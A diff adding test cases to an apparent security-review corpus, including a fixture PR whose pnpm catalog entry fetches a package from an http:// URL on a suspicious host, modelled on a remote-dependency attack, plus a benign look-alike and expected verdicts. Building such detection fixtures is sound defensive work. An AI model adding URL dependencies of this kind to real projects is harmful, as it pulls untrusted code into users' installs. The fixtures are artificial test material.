@@ -257,6 +257,47 @@ const BUILD_AND_NAME_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
   }),
   buildCase({
+    id: 'pnpm-catalog-entry-from-url-endpoint',
+    description:
+      'A "share design tokens through the catalog" PR whose pnpm-workspace.yaml catalog entry takes a package from an http:// endpoint that names no package file (PhantomRaven\'s remote dynamic dependencies of 2025, written into a pnpm catalog that package.json only references as `catalog:`).',
+    number: 7290,
+    repo: 'design-system',
+    title: 'Share design tokens across packages via the catalog',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'pnpm-workspace.yaml',
+        base: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.1', '  vite: ^5.4.10'),
+        head: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.1', '  vite: ^5.4.10', '  ds-tokens-loader: http://npm.artifact-sync.net/ds-tokens-loader'),
+      },
+      {
+        path: 'packages/button/package.json',
+        base: `${JSON.stringify({ name: '@acme/button', version: '1.4.0', dependencies: { react: 'catalog:' } }, null, 2)}\n`,
+        head: `${JSON.stringify({ name: '@acme/button', version: '1.4.0', dependencies: { react: 'catalog:', 'ds-tokens-loader': 'catalog:' } }, null, 2)}\n`,
+      },
+    ],
+    checks: nodeCi(),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
+  }),
+  buildCase({
+    id: 'pnpm-catalog-bump-beside-kept-tarball',
+    description:
+      'The look-alike done as maintainers do it: a Renovate-style catalog update of vite and react in pnpm-workspace.yaml, beside a catalog entry that has long taken a spreadsheet library from its vendor\'s CDN tarball (unchanged), and an override floor as `pnpm audit --fix` writes it.',
+    number: 7291,
+    repo: 'design-system',
+    title: 'chore(deps): update vite and react catalog entries',
+    author: MAINTAINER,
+    files: [
+      {
+        path: 'pnpm-workspace.yaml',
+        base: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.0', '  vite: ^5.4.8', '  xlsx: https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz', 'onlyBuiltDependencies:', '  - esbuild'),
+        head: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.1', '  vite: ^5.4.10', '  xlsx: https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz', 'onlyBuiltDependencies:', '  - esbuild', 'overrides:', "  'cookie@<0.7.0': '>=0.7.0'"),
+      },
+    ],
+    checks: nodeCi(),
+    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
+  }),
+  buildCase({
     id: 'gemfile-runs-download-at-bundle-install',
     description: 'A "add rubocop" PR whose Gemfile also pipes a download from a tunnel host into a shell: Bundler evaluates the Gemfile at every bundle install.',
     number: 7210,
